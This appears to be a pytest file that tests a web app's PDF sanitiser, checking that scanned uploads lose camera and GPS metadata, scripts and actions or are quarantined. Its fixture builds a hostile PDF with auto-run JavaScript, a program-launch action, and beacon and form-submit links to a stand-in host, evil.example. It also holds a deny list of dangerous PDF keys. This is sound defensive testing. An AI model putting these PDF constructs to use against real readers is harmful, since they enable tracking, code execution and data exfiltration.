"""PDFs as phone "scan to PDF" apps and attackers make them: the staff download carries no camera,
no GPS position, no XMP, no script and no action; a PDF that cannot be cleaned stays closed."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator

import pikepdf
import pytest
from django.test import Client
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from amparo.core.models import Organisation
from amparo.intake import sanitise
from amparo.intake.models import Attachment
from tests.factories import intake_report
from tests.intake.test_report import post_report, upload

# Whatever of these a downloaded PDF holds can run, reach out or hide something.
FORBIDDEN_NAMES = frozenset(
    {
        "/JavaScript",
        "/JS",
        "/OpenAction",
        "/AA",
        "/Launch",
        "/URI",
        "/EmbeddedFiles",
        "/EmbeddedFile",
        "/XFA",
        "/Metadata",
        "/PieceInfo",
        "/SubmitForm",
        "/ImportData",
        "/GoToR",
        "/Thumb",
    }
)
SECRETS = (b"CameraMakerSecret", b"Investigator Name", b"xmpmeta", b"app.alert", b"evil.example")


def photo_with_camera_and_gps(size: tuple[int, int] = (32, 24)) -> bytes:
    """A JPEG as a phone writes it: camera maker and model, and a GPS position."""
    exif = Image.Exif()
    exif[0x010F] = "CameraMakerSecret"  # Make
    exif[0x0110] = "ModelSecret"  # Model
    exif[0x8825] = {1: "N", 2: (1.0, 17.0, 0.0), 3: "E", 4: (36.0, 49.0, 0.0)}  # GPSInfo
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, "JPEG", exif=exif, comment=b"xmpmeta")
    return buffer.getvalue()


def _xmp(pdf: pikepdf.Pdf) -> pikepdf.Stream:
    return pdf.make_stream(
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>Investigator Name</dc:creator>'
        b"</x:xmpmeta>",
        Type=Name.Metadata,
        Subtype=Name.XML,
    )


def _action(kind: str, **fields: object) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name(kind), **fields)


def hostile_pdf() -> bytes:
    """One page showing a phone photo (EXIF with GPS, its own XMP) directly and through a form
    XObject, with a thumbnail, links that run JavaScript, open a web page and launch a program,
    document and page actions, a JavaScript name tree, an XFA form, XMP and /Info."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    page = pdf.pages[0]
    jpeg = photo_with_camera_and_gps()
    image = pdf.make_stream(
        jpeg,
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=32,
        Height=24,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Name.DCTDecode,
    )
    image.Metadata = _xmp(pdf)
    image.PieceInfo = Dictionary(Scanner=Dictionary(Private=String("Investigator Name")))
    form = pdf.make_stream(
        b"q 32 0 0 24 0 0 cm /Inner Do Q",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, 32, 24]),
        Resources=Dictionary(XObject=Dictionary(Inner=image)),
    )
    page.obj.Resources = Dictionary(XObject=Dictionary(Photo=image, Scan=form))
    page.obj.Contents = pdf.make_stream(b"q 100 0 0 75 50 50 cm /Photo Do Q q /Scan Do Q")
    page.obj.Thumb = pdf.make_stream(
        jpeg, Width=32, Height=24, ColorSpace=Name.DeviceRGB, BitsPerComponent=8,
        Filter=Name.DCTDecode,
    )  # fmt: skip
    page.obj.Metadata = _xmp(pdf)
    page.obj.AA = Dictionary(O=_action("/JavaScript", JS=String("app.alert('page')")))
    links = [
        _action("/JavaScript", JS=String("app.alert('link')")),
        _action("/URI", URI=String("https://evil.example/beacon")),
        _action("/Launch", F=String("evil.example.exe")),
        _action("/SubmitForm", F=String("https://evil.example/collect")),
        _action("/GoTo", D=Array([page.obj, Name.Fit]), Next=_action("/JavaScript", JS="x")),
    ]
    page.obj.Annots = pdf.make_indirect(
        Array(
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([10 * n, 10, 10 * n + 8, 18]),
                    A=action,
                )
            )
            for n, action in enumerate(links)
        )
    )
    pdf.Root.OpenAction = _action("/JavaScript", JS=String("app.alert('open')"))
    pdf.Root.AA = Dictionary(WC=_action("/JavaScript", JS=String("app.alert('close')")))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(
            Names=Array([String("init"), _action("/JavaScript", JS=String("app.alert('doc')"))])
        )
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp>app.alert('xfa')</xdp:xdp>")
    )
    pdf.Root.URI = Dictionary(Base=String("https://evil.example/"))
    pdf.docinfo["/Author"] = "Investigator Name"
    pdf.Root.Metadata = _xmp(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer, compress_streams=False, fix_metadata_version=False)
    return buffer.getvalue()


def _walk(value: object, seen: set[tuple[int, int]]) -> Iterator[str]:
    """Every name used as a key or a value anywhere below `value`."""
    if isinstance(value, pikepdf.Object) and value.is_indirect:
        if value.objgen in seen:
            return
        seen.add(value.objgen)
    if isinstance(value, pikepdf.Name):
        yield str(value)
    elif isinstance(value, pikepdf.Dictionary | pikepdf.Stream):
        for key in value.keys():  # noqa: SIM118 - a pikepdf dictionary
            yield str(key)
            yield from _walk(value[key], seen)
    elif isinstance(value, pikepdf.Array):
        for item in value:
            yield from _walk(item, seen)


def assert_harmless(data: bytes) -> None:
    """What the brief of a cleaned PDF promises, read back from the bytes themselves."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert "/Info" not in pdf.trailer
        names = set(_walk(pdf.trailer, set()))
        for obj in pdf.objects:
            names.update(_walk(obj, set()))
        assert not names & FORBIDDEN_NAMES, names & FORBIDDEN_NAMES
        images = []
        for obj in pdf.objects:
            if not isinstance(obj, pikepdf.Stream):
                continue
            raw = obj.read_raw_bytes()
            decoded = raw
            if obj.get("/Filter") != Name.DCTDecode:
                decoded = obj.read_bytes()
            for secret in SECRETS:
                assert secret not in raw and secret not in decoded, secret
            if obj.get("/Subtype") == Name.Image:
                images.append(obj)
        assert images, "the photo is still in the document"
        for image in images:
            picture = pikepdf.PdfImage(image).as_pil_image()
            assert picture.size == (32, 24)
            assert not picture.getexif(), "no EXIF at all, so no camera and no GPS"
            assert "exif" not in picture.info and "comment" not in picture.info
            assert b"Exif" not in image.read_raw_bytes()
        assert len(pdf.pages) == 1


def test_the_hostile_test_pdf_carries_everything_it_should_lose() -> None:
    original = hostile_pdf()
    with pytest.raises(AssertionError):
        assert_harmless(original)
    assert b"CameraMakerSecret" in original and b"app.alert" in original


def test_a_pdf_loses_exif_gps_xmp_scripts_and_actions_but_keeps_its_pages_and_photos() -> None:
    cleaned = sanitise.clean("scan.pdf", hostile_pdf())
    assert cleaned.media_type == "application/pdf" and not cleaned.quarantine
    assert_harmless(cleaned.data)


@pytest.mark.django_db
def test_the_staff_download_of_a_scanned_pdf_has_no_camera_gps_or_javascript(
    receiving: Organisation, staff_client: Client
) -> None:
    submission, _receipt = intake_report(files=[sanitise.clean("scan.pdf", hostile_pdf())])
    attachment = Attachment.objects.get()
    response = staff_client.get(reverse("intake:download", args=[submission.pk, attachment.pk]))
    assert response.status_code == 200
    assert_harmless(response.content)


def _pdf_with_image(stream: bytes, **fields: object) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(100, 100))
    image = pdf.make_stream(
        stream, Type=Name.XObject, Subtype=Name.Image, Width=32, Height=24, BitsPerComponent=8,
        **{"ColorSpace": Name.DeviceRGB, **fields},
    )  # fmt: skip
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im=image))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"q 32 0 0 24 0 0 cm /Im Do Q")
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def test_a_pdf_whose_image_cannot_be_re_encoded_is_quarantined_not_passed_through() -> None:
    # A JBIG2 image: the format carries its own segments, and nothing here can re-encode it.
    original = _pdf_with_image(
        b"\x97JB2\r\n\x1a\n" + b"CameraMakerSecret" * 4, Filter=Name.JBIG2Decode
    )
    cleaned = sanitise.clean("fax.pdf", original)
    assert cleaned.quarantine
    assert cleaned.media_type == "application/pdf"


@pytest.mark.django_db
def test_a_quarantined_file_is_shown_to_staff_with_its_reason_and_never_served(
    receiving: Organisation, staff_client: Client
) -> None:
    original = _pdf_with_image(
        b"\x97JB2\r\n\x1a\n" + b"CameraMakerSecret" * 4, Filter=Name.JBIG2Decode
    )
    submission, _receipt = intake_report(files=[sanitise.clean("fax.pdf", original)])
    attachment = Attachment.objects.get()
    assert attachment.quarantine
    page = staff_client.get(reverse("intake:detail", args=[submission.pk])).content.decode()
    assert "fax.pdf" in page
    assert "could not be cleaned" in page
    url = reverse("intake:download", args=[submission.pk, attachment.pk])
    assert url not in page
    response = staff_client.get(url, follow=True)
    assert b"CameraMakerSecret" not in response.content
    assert "could not be cleaned" in response.content.decode()


def _encoded(mode: str, kind: str) -> bytes:
    buffer = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = "CameraMakerSecret"
    Image.new(mode, (32, 24), 90 if mode == "L" else (10, 60, 90, 20)[: len(mode)]).save(
        buffer, kind, **({"exif": exif} if kind == "JPEG" else {})
    )
    return buffer.getvalue()


def _profile(pdf: pikepdf.Pdf, components: int) -> Array:
    return Array([Name.ICCBased, pdf.make_stream(b"CameraMakerSecret ICC", N=components)])


@pytest.mark.parametrize(
    "kind",
    ["gray-jpeg", "cmyk-jpeg", "jpeg-2000", "flate-with-icc-and-trailing-bytes", "stencil-mask"],
)
def test_every_kind_of_picture_is_re_encoded_and_still_shows(kind: str) -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(100, 100))
    fields: dict[str, object] = {"Width": 32, "Height": 24, "BitsPerComponent": 8}
    if kind == "gray-jpeg":
        data = _encoded("L", "JPEG")
        fields |= {"Filter": Name.DCTDecode, "ColorSpace": Name.DeviceGray}
    elif kind == "cmyk-jpeg":
        data = _encoded("CMYK", "JPEG")
        fields |= {"Filter": Name.DCTDecode, "ColorSpace": _profile(pdf, 4)}
    elif kind == "jpeg-2000":
        data = _encoded("RGB", "JPEG2000")
        fields |= {"Filter": Name.JPXDecode}
    elif kind == "stencil-mask":
        data = zlib.compress(bytes(4 * 24) + b"CameraMakerSecret")
        fields |= {"Filter": Name.FlateDecode, "ImageMask": True, "BitsPerComponent": 1}
    else:
        data = zlib.compress(bytes(range(96)) * 24 + b"CameraMakerSecret")
        fields |= {"Filter": Name.FlateDecode, "ColorSpace": _profile(pdf, 3)}
    image = pdf.make_stream(data, Type=Name.XObject, Subtype=Name.Image, **fields)
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im=image))
    pdf.pages[0].obj.Contents = pdf.make_stream(b"q 32 0 0 24 0 0 cm /Im Do Q")
    buffer = io.BytesIO()
    pdf.save(buffer)

    cleaned = sanitise.clean("scan.pdf", buffer.getvalue())

    assert not cleaned.quarantine
    assert_harmless(cleaned.data)


def test_a_page_drawing_an_inline_jpeg_is_quarantined() -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(100, 100))
    jpeg = photo_with_camera_and_gps((8, 8))
    pdf.pages[0].obj.Contents = pdf.make_stream(
        b"q 8 0 0 8 0 0 cm BI /W 8 /H 8 /CS /RGB /BPC 8 /F /DCT ID " + jpeg + b"\nEI Q"
    )
    buffer = io.BytesIO()
    pdf.save(buffer)
    assert sanitise.clean("scan.pdf", buffer.getvalue()).quarantine == "pdf_inline_image"


@pytest.mark.django_db
def test_the_reporter_is_told_when_a_file_could_not_be_cleaned(
    client: Client, receiving: Organisation
) -> None:
    original = _pdf_with_image(b"\x97JB2\r\n\x1a\n", Filter=Name.JBIG2Decode)
    response = post_report(client, files=[upload("fax.pdf", original)])
    assert response.status_code == 200
    assert "One file could not be cleaned" in response.content.decode()
    assert Attachment.objects.get().quarantine == "pdf_image"
